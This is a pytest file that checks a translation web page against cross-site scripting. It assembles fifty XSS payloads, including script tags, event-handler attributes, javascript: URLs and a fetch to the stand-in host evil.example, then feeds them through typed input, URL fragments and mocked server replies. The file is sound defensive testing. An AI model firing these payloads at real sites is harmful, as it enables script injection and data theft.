"""Nothing that is typed, linked to or answered runs in the page."""

import json
import re
from pathlib import Path
from typing import Any
from urllib.parse import quote

import pytest

from tests.server.page.conftest import Open, until

pytestmark = pytest.mark.slow

FILES = Path(__file__).parents[3] / "nmt" / "server" / "page"
SINKS = ("innerHTML", "outerHTML", "insertAdjacentHTML", "document.write", "eval(", "new Function")
CALLS = ("alert(1)", "window.ran=1", "fetch('https://evil.example')")
FRAMES = (
    "<script>{}</script>",
    "<img src=x onerror={}>",
    "<svg onload={}>",
    "<svg><script>{}</script></svg>",
    "<body onload={}>",
    "<iframe srcdoc='<script>{}</script>'></iframe>",
    "<iframe src='javascript:{}'></iframe>",
    "<a href='javascript:{}' autofocus onfocus={}>x</a>",
    "<details open ontoggle={}>x</details>",
    "<input autofocus onfocus={}>",
    "<video><source onerror={}></video>",
    "<math><mi xlink:href='javascript:{}'>x</mi></math>",
    "<style>@import 'javascript:{}'</style>",
    "</textarea><script>{}</script>",
    "'\"><script>{}</script>",
    "javascript:{}",
    "{{{{constructor.constructor('{}')()}}}}",
)
PAYLOADS = [frame.replace("{}", call) for call in CALLS for frame in FRAMES][:50]


def test_there_are_fifty_payloads() -> None:
    assert len(set(PAYLOADS)) == 50


def has_run(page: Any) -> bool:
    return bool(page.evaluate("'ran' in window"))


def test_nothing_that_is_typed_runs(open_page: Open) -> None:
    page = open_page()
    for payload in PAYLOADS:
        page.fill("#source-text", payload)
        page.keyboard.press("Control+Enter")
        page.wait_for_selector("#translation[aria-busy=false]")
        assert page.text_content("#mirror").rstrip("\u200b") == payload
    assert not has_run(page)


def test_nothing_that_is_linked_to_runs(open_page: Open) -> None:
    link = "#source=fr&target=en&text="
    page = open_page(link + quote(PAYLOADS[0]))
    for payload in PAYLOADS:
        page.evaluate("hash => { location.hash = hash; }", link + quote(payload))
        until(page, "text => document.querySelector('#source-text').value === text", payload)
        page.evaluate(
            "hash => { location.hash = hash; }", f"#source={quote(payload)}&target=x&text=x"
        )
    assert page.input_value("#source-language") == "fr"
    assert not has_run(page)


def test_nothing_that_a_server_answers_runs(open_page: Open) -> None:
    """As a model would that has learnt it, or a server that says it back."""
    text = "\n".join(PAYLOADS)

    def details(payload: str) -> Any:
        everything = {"text": payload, "start": 0, "end": len(payload)}
        hypothesis = {
            "text": payload,
            "score": 0.0,
            "log_probability": 0.0,
            "words": [everything | {"source": [1.0]}],
        }
        return {"hypotheses": [hypothesis, hypothesis], "source": [everything]}

    def translate(route: Any) -> None:
        asked = json.loads(route.request.post_data)
        begun = asked.get("prefix")
        found = details(begun) if begun else [details(each) for each in asked["q"]]
        route.fulfill(json={"translatedText": asked["q"], "details": found})

    def next_words(route: Any) -> None:
        found = [{"word": payload, "probability": 0.1} for payload in PAYLOADS]
        route.fulfill(json={"next": found})

    language = {"code": "fr", "name": PAYLOADS[1], "targets": ["en"]}
    other = {"code": "en", "name": PAYLOADS[0], "targets": ["fr"]}
    page = open_page(
        routes={
            "translate": translate,
            "next": next_words,
            "languages": lambda route: route.fulfill(json=[language, other]),
        }
    )
    page.fill("#source-text", text)
    page.wait_for_selector(".word >> nth=49")
    assert page.text_content("#translation") == text
    page.locator(".word").nth(1).click()
    page.wait_for_selector("[role=menuitemradio]")
    assert page.locator(".option-word").all_text_contents() == PAYLOADS
    page.locator(".option").nth(2).click()
    until(page, "document.querySelector('.chosen')")
    assert not has_run(page)


def test_no_file_of_the_page_makes_markup_from_text_or_leaves_the_server() -> None:
    for file in FILES.rglob("*"):
        if file.is_dir():
            continue
        content = file.read_text().replace("http://www.w3.org/2000/svg", "")
        assert not re.search(r"https?://|//[a-z]+\.[a-z]", content), file
        assert not [sink for sink in SINKS if sink in content], file


def test_the_page_has_no_script_or_style_in_it() -> None:
    content = (FILES / "index.html").read_text()
    assert not re.search(r"<script(?![^>]*\ssrc=)|<style|\sstyle=|\son[a-z]+=", content)


def test_every_icon_that_is_used_is_there() -> None:
    names = set(re.findall(r'url\("(.*?)"\)', (FILES / "style.css").read_text()))
    assert names
    assert [name for name in names if not (FILES / name).is_file()] == []
    used = set(re.findall(r'class="icon (\w+)"', (FILES / "index.html").read_text()))
    assert {f"icons/{name}.svg" for name in used} <= names
